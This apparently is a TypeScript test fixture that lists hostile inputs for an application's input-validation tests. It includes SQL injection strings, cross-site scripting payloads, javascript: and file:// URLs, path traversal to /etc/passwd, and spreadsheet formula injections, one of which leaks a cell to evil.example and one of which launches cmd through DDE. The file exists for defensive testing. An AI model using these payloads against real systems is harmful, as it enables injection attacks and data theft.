/**
 * Hostile values shared by the hostile-input tests of every write path (CSV import, the data
 * layer, and the browser tests that render what they stored). Kept in one table so a new trick is
 * added once and checked everywhere.
 */

/**
 * Text that must be accepted in any free-text field and come back exactly as stored: as inert
 * text on pages (never markup, never a link), verbatim in JSON, and unchanged through CSV export
 * and re-import. Several set `window.__pwned` if they ever run, which the browser tests check.
 */
export const INERT_TEXT: Record<string, string> = {
  "SQL quote and comment": "'; DROP TABLE statements; --",
  "SQL tautology": `" OR "1"="1`,
  "SQL stacked statement": "Robert'); DELETE FROM statements WHERE ('1'='1",
  "script tag": "<script>window.__pwned='script';alert('xss')</script>",
  "img onerror": `<img src=x onerror="window.__pwned='img';alert(1)">`,
  "attribute breakout": `"><svg onload="window.__pwned='svg'">`,
  "closing tags": "</textarea></title></style></q><script>window.__pwned='close'</script>",
  "javascript URL as text": "javascript:window.__pwned='js-url'",
  "data URL as text": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "template syntax": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
  "prototype keys": "__proto__ constructor prototype",
  "spreadsheet formula": `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
  "spreadsheet DDE": "@SUM(1+1)*cmd|' /C calc'!A0",
  "plus formula": "+1+1",
  "minus formula": "-2+3",
  "apostrophe then formula": "'=1+1",
  "right-to-left override": "abc\u202Edcba",
  "emoji and combining marks": "🇺🇦 Zoë ﬁ e\u0301 𝔘",
  "path traversal": "../../../../etc/passwd",
  "escapes as text": "%00 %27 \\x00 \\u0000 &lt;b&gt; &#x3C;",
  "multi-line": "line one\nline two\n\tindented",
};

/** Values a URL field must refuse: only absolute http(s) URLs are ever stored or linked. */
export const HOSTILE_URLS: string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "javascript://example.org/%0Aalert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/x",
  "/relative/path",
  "http://",
  "https://exa mple.org/",
  "http:\\\\evil.example",
  "https://example.org/\u0000",
  `https://example.org/${"a".repeat(2000)}`,
];

/** Text fields refuse these anywhere in the value (see lib/validation/fields.ts textProblem). */
export const CONTROL_CHARACTERS: Record<string, string> = {
  NUL: "a\u0000b",
  BEL: "ring\u0007",
  "ANSI escape": "\u001b[31mred\u001b[0m",
  DEL: "x\u007f",
  "C1 control": "x\u0085y",
};

/** Dates every date field refuses: impossible, malformed, or in another notation. */
export const BAD_DATES: string[] = [
  "2025-02-30",
  "2025-02-29",
  "2025-13-01",
  "2025-00-10",
  "2025-04-31",
  "2025-9-4",
  "25-09-04",
  "2025-09-04T00:00:00Z",
  "2025/09/04",
  "04.09.2025",
  "45904",
  "1e3",
  "2025-W36",
  "'; DROP TABLE statements; --",
  "<script>alert(1)</script>",
];
